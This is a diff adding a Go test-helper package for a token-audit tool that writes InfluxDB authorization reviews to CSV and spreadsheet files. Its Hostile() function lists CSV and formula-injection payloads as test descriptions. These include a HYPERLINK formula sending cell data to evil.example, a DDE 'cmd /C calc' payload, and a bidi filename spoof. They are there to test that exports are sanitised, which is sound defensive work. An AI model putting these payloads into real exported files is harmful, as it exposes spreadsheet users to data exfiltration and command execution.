@@ -1,0 +1,463 @@
+// Package reporttest has reviews to report on, and reads back what a format made of
+// them.
+package reporttest
+
+import (
+	"archive/zip"
+	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"iter"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	excelize "github.com/xuri/excelize/v2"
+
+	"tokenaudit/jobs/audit"
+	"tokenaudit/report/table"
+)
+
+// CSV is a CSV file by its column names.
+type CSV struct {
+	Header []string
+	Rows   []map[string]string
+}
+
+func ReadCSV(t testing.TB, text string) CSV {
+	t.Helper()
+	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := CSV{Header: lines[0]}
+	for _, line := range lines[1:] {
+		row := map[string]string{}
+		for i, name := range s.Header {
+			row[name] = line[i]
+		}
+		s.Rows = append(s.Rows, row)
+	}
+	return s
+}
+
+func (s CSV) Column(name string) []string {
+	var out []string
+	for _, r := range s.Rows {
+		out = append(out, r[name])
+	}
+	return out
+}
+
+func Stamp(t time.Time) string {
+	if t.IsZero() {
+		return ""
+	}
+	return t.UTC().Format(time.RFC3339)
+}
+
+var (
+	LastWeek = time.Date(2026, 11, 16, 8, 0, 0, 0, time.UTC)
+	ThisWeek = LastWeek.AddDate(0, 0, 7)
+	Began    = ThisWeek.Add(3 * time.Second) // the time of the review
+)
+
+// Hostile descriptions, by what is wrong with them.
+func Hostile() map[string]string {
+	return map[string]string{
+		"link":       `=HYPERLINK("http://evil.example/?"&A1,"open")`,
+		"dde":        `=cmd|' /C calc'!A0`,
+		"plus":       "+1+1",
+		"minus":      "-1",
+		"at":         "@SUM(A1)",
+		"tab":        "\t=1+1",
+		"space":      "  =1+1",
+		"newline":    "\n=1+1",
+		"return":     "\r=1+1",
+		"lines":      "first, \"quoted\"\nsecond\r\nthird",
+		"bidi":       "safe\u202egnp.exe",
+		"zero":       "a\u200bb\x00c\x1bd",
+		"escape":     "_x0041_",
+		"overlap":    "_x0041_x0042_ _xD83D_ _x005F_x0041_",
+		"markup":     "<b>&amp;]]></b>",
+		"apostrophe": "'quoted'",
+		"digits":     "0123456789",
+		"emoji":      "🔑 clé 鍵",
+		"padded":     " padded ",
+		"long":       strings.Repeat("0123456789", 30_000),
+		"empty":      "",
+	}
+}
+
+func Describe(name string) string { return Hostile()[name] }
+
+func names() []string {
+	var ns []string
+	for n := range Hostile() {
+		ns = append(ns, n)
+	}
+	slices.Sort(ns)
+	return ns
+}
+
+func WritePermission(bucket string) audit.Permission {
+	return audit.Permission{Action: "write", Resource: audit.Resource{Type: "buckets", ID: bucket, Name: "sensors", OrgID: "00000000000000aa", Org: "acme"}}
+}
+
+func Authorization(n int, description string) audit.Authorization {
+	created := ThisWeek.AddDate(0, -n, 0).Add(time.Duration(n*1017) * time.Second)
+	return audit.Authorization{
+		ID: fmt.Sprintf("%016x", 0xa000+n), OrgID: "00000000000000aa", Org: "acme",
+		UserID: fmt.Sprintf("%016x", 0xb0+n%4), User: fmt.Sprintf("user-%d", n%4),
+		Description: description, Status: []audit.Status{audit.Active, audit.Active, audit.Inactive}[n%3],
+		Permissions: []audit.Permission{{Action: "read", Resource: audit.Resource{Type: "buckets", ID: "00000000000000c1", Name: "sensors"}}, WritePermission("00000000000000c1")},
+		CreatedAt:   created, UpdatedAt: created.Add(time.Hour),
+	}
+}
+
+// population: a target whose authorizations have hostile descriptions, and one
+// with an operator token, a nameless one, and some that the list lacks now.
+func Population() map[string][]audit.Authorization {
+	var plant []audit.Authorization
+	for i, name := range names() {
+		plant = append(plant, Authorization(i, Describe(name)))
+	}
+	office := []audit.Authorization{Authorization(40, "operator"), Authorization(41, ""), Authorization(42, "set aside"), Authorization(43, "deleted since"), Authorization(44, "hidden"), Authorization(45, "cannot be asked"), Authorization(46, "new here"), Authorization(47, "repaired"), Authorization(48, "of a deleted user")}
+	office[0].Permissions = []audit.Permission{{Action: "write", Resource: audit.Resource{Type: "buckets"}}}
+	office[1].Org, office[1].User, office[1].CreatedAt, office[1].UpdatedAt = "", "", time.Time{}, time.Time{}
+	office[8].UserID = "00000000000000dd"
+	return map[string][]audit.Authorization{"plant": plant, "office": office}
+}
+
+// review gives the records of this week and their summary, made by the audit
+// itself from last week's.
+func review(t testing.TB) ([]audit.Record, audit.Summary) {
+	var all []audit.Record
+	var items []audit.Item
+	for _, target := range []string{"plant", "office"} {
+		now := Population()[target]
+		before := merge(t, target, LastWeek, now, nil)
+		if target == "office" {
+			now = thisOffice(now)
+			before = slices.DeleteFunc(before, func(r audit.Record) bool { return r.Description == "new here" })
+		}
+		records := merge(t, target, Began, now, before)
+		all, items = append(all, records...), append(items, item(target, records))
+	}
+	run := audit.Run{Job: "weekly-review", Slot: ThisWeek, Trigger: audit.Scheduled, Missed: 1, Started: Began}
+	tool := audit.Tool{Name: "tokenaudit", Version: "1.0.0", Build: "abc123 go1.26"}
+	previous := &audit.Previous{ID: "weekly-review/2026-11-16T0800Z", Slot: LastWeek, BySeverity: map[audit.Severity]int{audit.Critical: 3, audit.Medium: 40, audit.Low: 4}}
+	return all, audit.Summarize(run, items, ThisWeek.Add(time.Minute), tool, audit.Policy{}, previous)
+}
+
+// thisOffice lacks three authorizations of last week, and one may no longer write.
+func thisOffice(as []audit.Authorization) []audit.Authorization {
+	as = slices.DeleteFunc(slices.Clone(as), func(a audit.Authorization) bool {
+		return a.Description == "deleted since" || a.Description == "hidden" || a.Description == "cannot be asked"
+	})
+	for i := range as {
+		if as[i].Description == "repaired" {
+			as[i].Status = audit.Inactive
+		}
+	}
+	return as
+}
+
+func merge(t testing.TB, target string, at time.Time, now []audit.Authorization, before []audit.Record) []audit.Record {
+	rv := audit.Review{
+		Target: target, Now: at, Policy: audit.Policy{RotateAfter: 365 * 24 * time.Hour, InactiveAfter: 90 * 24 * time.Hour},
+		Owner: owner, Probe: probe,
+	}
+	var out []audit.Record
+	for r, err := range rv.Merge(t.Context(), Values(now), Values(before)) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, r)
+	}
+	return out
+}
+
+func owner(_ context.Context, a audit.Authorization) audit.Owner {
+	o := audit.Owner{ID: a.UserID, Name: a.User, State: audit.OwnerPresent, MembershipKnown: true, Evidence: "listed by GET /api/v2/users"}
+	if a.UserID == "00000000000000dd" {
+		o.State, o.Evidence = audit.OwnerDeleted, "GET /api/v2/users/00000000000000dd: 404 user not found"
+	}
+	return o
+}
+
+func probe(_ context.Context, a audit.Authorization) audit.Probe {
+	switch a.ID {
+	case Authorization(43, "").ID:
+		return audit.Probe{Presence: audit.Gone, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 authorization not found"}
+	case Authorization(44, "").ID:
+		return audit.Probe{Presence: audit.Hidden, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 user not found", Owner: &audit.Owner{ID: "00000000000000b0", State: audit.OwnerDeleted, Evidence: "GET by ID: user not found"}}
+	}
+	return audit.Probe{Presence: audit.Unseen}
+}
+
+func item(target string, records []audit.Record) audit.Item {
+	cov, counts := audit.NewCoverage(target), audit.NewCounts()
+	cov.Server = "InfluxDB 2.7.12"
+	for _, r := range records {
+		cov.Met(r)
+		counts.Add(r, Began)
+	}
+	cov.Asked = []audit.Asked{
+		{What: "authorizations of org acme", Request: "GET /api/v2/authorizations?orgID=00000000000000aa", Status: 200, Rows: len(records), Verdict: audit.Complete},
+		{What: "user user-1", Request: "GET /api/v2/users?name=user-1", Status: 401, Verdict: audit.NotKnown, Reason: "unauthorized: the credential may not read users"},
+		{What: "members of org acme", Request: "GET /api/v2/orgs/00000000000000aa/members", Verdict: audit.NotKnown, Reason: "no answer within 30s"},
+	}
+	return audit.Item{Coverage: cov, Counts: counts}
+}
+
+func Values[T any](vs []T) iter.Seq2[T, error] {
+	return func(yield func(T, error) bool) {
+		for _, v := range vs {
+			if !yield(v, nil) {
+				return
+			}
+		}
+	}
+}
+
+func Input(t testing.TB) table.Input {
+	records, summary := review(t)
+	return table.Input{
+		Summary: summary, Rows: func() iter.Seq2[audit.Record, error] { return Values(records) },
+		Trend: weeksBefore(), Controls: someControls(), Config: "jobs:\n  - name: weekly-review\n    schedule: \"0 8 * * 1\"\n=1+1: not a formula\n",
+	}
+}
+
+// weeksBefore: three weeks, in one of which not everything was seen.
+func weeksBefore() []audit.TrendPoint {
+	point := func(weeks int, v audit.Verdict, critical, medium, low int) audit.TrendPoint {
+		run := audit.Run{Job: "weekly-review", Slot: ThisWeek.AddDate(0, 0, -7*weeks)}
+		by := map[audit.Severity]int{audit.Critical: critical, audit.High: 0, audit.Medium: medium, audit.Low: low}
+		return audit.TrendPoint{Run: run.ID(), Slot: run.Slot, Verdict: v, Authorizations: 30, BySeverity: by}
+	}
+	return []audit.TrendPoint{point(3, audit.Complete, 5, 44, 2), point(2, audit.Partial, 4, 41, 6), point(1, audit.Complete, 3, 40, 4)}
+}
+
+func someControls() audit.Controls {
+	return audit.Controls{
+		"active-write": {
+			{Framework: "PCI DSS", Version: "4.0.1", ID: "7.2.5.1", Title: "Access of application and system accounts is reviewed", Strength: "direct", Source: "PCI SSC document library"},
+			{Framework: "NIST 800-53", Version: "r5", ID: "AC-6(7)", Title: "Privileges are reviewed", Strength: "direct", Source: "csrc.nist.gov"},
+		},
+		"deleted-owner": {{Framework: "NIST 800-53", Version: "r5", ID: "AC-2", Title: "=1+1 accounts", Strength: "supporting", Source: "csrc.nist.gov"}},
+	}
+}
+
+// Nothing is the input of a review without targets.
+func Nothing() table.Input {
+	run := audit.Run{Job: "empty", Slot: ThisWeek, Trigger: audit.Manual, Started: ThisWeek}
+	return table.Input{
+		Summary: audit.Summarize(run, nil, ThisWeek, audit.Tool{Name: "tokenaudit"}, audit.Policy{}, nil),
+		Rows:    func() iter.Seq2[audit.Record, error] { return Values[audit.Record](nil) },
+	}
+}
+
+var ErrBroken = errors.New("snapshot is broken")
+
+// Broken breaks off after some records, in every walk from the given one on.
+func Broken(in table.Input, from int) table.Input {
+	rows, walks := in.Rows, 0
+	in.Rows = func() iter.Seq2[audit.Record, error] {
+		walks++
+		if walks < from {
+			return rows()
+		}
+		return func(yield func(audit.Record, error) bool) {
+			for r := range rows() {
+				if !yield(r, nil) {
+					return
+				}
+				break
+			}
+			yield(audit.Record{}, ErrBroken)
+		}
+	}
+	return in
+}
+
+// Format is a format as the report uses it.
+type Format interface {
+	Add(*table.Row) error
+	Finish(context.Context) error
+	Close() error
+}
+
+// Draft is a staging folder in which formats have written their files.
+func Draft(t testing.TB, in table.Input, begins ...func(*table.Draft) (Format, error)) *table.Draft {
+	t.Helper()
+	d, err := table.NewDraft(t.TempDir(), in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d.Findings = table.NewFindings(d)
+	var formats []Format
+	for _, begin := range begins {
+		f, err := begin(d)
+		if err != nil {
+			t.Fatal(err)
+		}
+		formats = append(formats, f)
+	}
+	for r, err := range d.Rows(t.Context()) {
+		if err = errors.Join(err, d.Findings.Add(r)); err != nil {
+			t.Fatal(err)
+		}
+		for _, f := range formats {
+			if err := f.Add(r); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	err = d.Findings.Close()
+	for _, f := range formats {
+		err = errors.Join(err, f.Finish(t.Context()), f.Close())
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
+// Files are the files of formats.
+func Files(t testing.TB, in table.Input, begins ...func(*table.Draft) (Format, error)) map[string]string {
+	t.Helper()
+	return Contents(t, Draft(t, in, begins...).Path)
+}
+
+// FilesBy is filesOf a format that is written at once.
+func FilesBy(t testing.TB, in table.Input, write func(context.Context, *table.Draft) error) map[string]string {
+	t.Helper()
+	d := Draft(t, in)
+	if err := write(t.Context(), d); err != nil {
+		t.Fatal(err)
+	}
+	return Contents(t, d.Path)
+}
+
+// Need skips a test whose program is missing; the machines of CI have them all.
+func Need(t *testing.T, what string, err error) {
+	t.Helper()
+	switch {
+	case err == nil:
+	case os.Getenv("CI") == "true":
+		t.Fatalf("%s is missing: %v", what, err)
+	default:
+		t.Skipf("%s is missing", what)
+	}
+}
+
+const Later = "later-check" // of a later version of the program
+
+// EveryState has, beside the fixture, what no list of authorizations has.
+func EveryState(t testing.TB) table.Input {
+	in := Input(t)
+	in.Controls = audit.Controls{"active-write": {
+		{Framework: "CIS Controls", Version: "8.1", ID: "5.5", Strength: "direct"},
+		{Framework: "CIS Controls", Version: "8.1", ID: "3.3", Strength: "supporting"},
+		{Framework: "CIS Controls", Version: "8.1", ID: "6.8", Strength: "supporting"},
+	}}
+	in.Summary.Policy.ServiceUsers = []string{"user-1"}
+	server := audit.Record{Target: "plant", Authorization: audit.Server("values are shown"), Presence: audit.Listed}
+	server.Findings = []audit.Finding{{Check: "token-value-readable", Severity: audit.High, State: audit.New, Since: Began}}
+	server.Findings = append(server.Findings, audit.Finding{Check: "operator", Severity: audit.Critical, State: audit.Excepted, Since: LastWeek, Approval: &audit.Approval{
+		Reason: "bidi\u202e", Requested: "ann", ApprovedBy: "bob", Ticket: "SEC-1", Expires: ThisWeek,
+	}})
+	odd := audit.Record{Target: "plant", Authorization: audit.Authorization{ID: "00000000000000e1", Legacy: true, Status: "dormant"}, Presence: audit.Hidden}
+	odd.Findings = []audit.Finding{
+		{Check: Later, Severity: "dire", State: "excused", Since: Began},
+		{Check: "no-description", Severity: audit.Low, State: audit.Reopened, Since: Began},
+		{Check: "active-write", Severity: audit.Medium, State: audit.Resolved, Since: LastWeek},
+	}
+	wide := audit.Record{Target: "plant", Authorization: Authorization(1, "wide"), Presence: audit.Listed, Findings: odd.Findings[1:2]}
+	wide.ID, wide.Permissions = "00000000000000e2", slices.Repeat(wide.Permissions, 600)
+	return With(in, server, odd, wide)
+}
+
+// With adds records at the end.
+func With(in table.Input, more ...audit.Record) table.Input {
+	var all []audit.Record
+	for r := range in.Rows() {
+		all = append(all, r)
+	}
+	all = append(all, more...)
+	in.Rows = func() iter.Seq2[audit.Record, error] { return Values(all) }
+	return in
+}
+
+// Contents of every file below dir, hidden ones included.
+func Contents(t testing.TB, dir string) map[string]string {
+	files := map[string]string{}
+	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
+		if err != nil || path == dir {
+			return err
+		}
+		rel, _ := filepath.Rel(dir, path)
+		files[rel] = ""
+		if d.IsDir() {
+			return nil
+		}
+		b, err := os.ReadFile(path)
+		files[rel] = string(b)
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return files
+}
+
+func OpenWorkbook(t testing.TB, text string) *excelize.File {
+	t.Helper()
+	f, err := excelize.OpenReader(strings.NewReader(text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f
+}
+
+func AllRows(t testing.TB, in table.Input) (authorizations, found []*table.Row) {
+	d := Draft(t, in)
+	copied := func(rows iter.Seq2[*table.Row, error]) (all []*table.Row) {
+		for r, err := range rows {
+			if err != nil {
+				t.Fatal(err)
+			}
+			c := *r
+			all = append(all, &c)
+		}
+		return all
+	}
+	return copied(d.AuthorizationRows(t.Context())), copied(d.FindingRows(t.Context()))
+}
+
+func Parts(t testing.TB, text string) map[string]string {
+	r, err := zip.NewReader(strings.NewReader(text), int64(len(text)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string]string{}
+	for _, f := range r.File {
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := io.ReadAll(rc) // checks the CRC too
+		if err != nil {
+			t.Fatal(f.Name, err)
+		}
+		out[f.Name] = string(b)
+	}
+	return out
+}
